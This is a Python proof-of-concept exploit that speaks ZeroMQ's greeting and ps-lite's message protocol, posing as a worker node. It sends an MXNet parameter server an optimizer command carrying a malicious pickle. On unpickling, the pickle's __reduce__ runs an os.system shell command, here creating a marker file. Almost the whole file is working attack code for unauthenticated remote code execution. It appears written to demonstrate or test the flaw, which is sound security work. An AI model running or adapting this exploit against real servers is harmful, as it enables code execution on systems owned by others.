"""A client of no job that speaks ps-lite's protocol to whatever listens at a port: ZeroMQ's greeting, then a message's meta."""
import os
import pickle
import socket
import struct

GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + bytes(32)
WORKER, NOBODY = b"ps09", b"ps1001"  # ps-lite takes ps09 for worker 0, and ZeroMQ not for the ps9 that it is connected to
LAST, COMMAND = 0, 4
OPTIMIZER, STOP = 0, 2  # commands of MXNet's servers


class Hostile:
    """What runs when it is unpickled: a file appears."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return os.system, (f"touch {self.path}",)


def varint(value):
    out = b""
    while True:
        value, low = value >> 7, value & 127
        out += bytes([low | (128 if value else 0)])
        if not value:
            return out


def field(number, value):
    """A field of a protobuf message: a whole number or bytes."""
    if isinstance(value, bytes):
        return varint(number << 3 | 2) + varint(len(value)) + value
    return varint(number << 3) + varint(value)


def command(head, body=b""):
    """ps-lite's meta of a request of a worker's: head, body, request, simple_app, app_id, timestamp, customer_id."""
    return field(1, head) + field(2, body) + field(4, 1) + field(6, 1) + field(7, 0) + field(8, 1) + field(10, 0)


def frame(data, flags=LAST):
    if len(data) > 255:
        return bytes([flags | 2]) + struct.pack(">Q", len(data)) + data
    return bytes([flags, len(data)]) + data


def read_exactly(connection, count):
    data = b""
    while len(data) < count:
        more = connection.recv(count - len(data))
        if not more:
            raise ConnectionError("closed in the middle of the greeting")
        data += more
    return data


def send(address, port, *messages, identity=WORKER):
    """Send them under the identity of a node. Returns the open connection."""
    connection = socket.create_connection((address, port), timeout=10)
    ready = b"\x05READY"
    for name, value in ((b"Socket-Type", b"DEALER"), (b"Identity", identity)):
        ready += bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
    connection.sendall(GREETING + frame(ready, COMMAND))
    read_exactly(connection, 64)
    read_exactly(connection, read_exactly(connection, 2)[1])  # its READY: messages that come before it are refused
    for message in messages:
        connection.sendall(frame(message))
    return connection


def attack(port, path, address="127.0.0.1"):
    """A pickle that would make the file appear; of protocol 0, for MXNet hands a body over as C's text, up to the first zero."""
    return send(address, port, command(OPTIMIZER, pickle.dumps(Hostile(path), 0)))
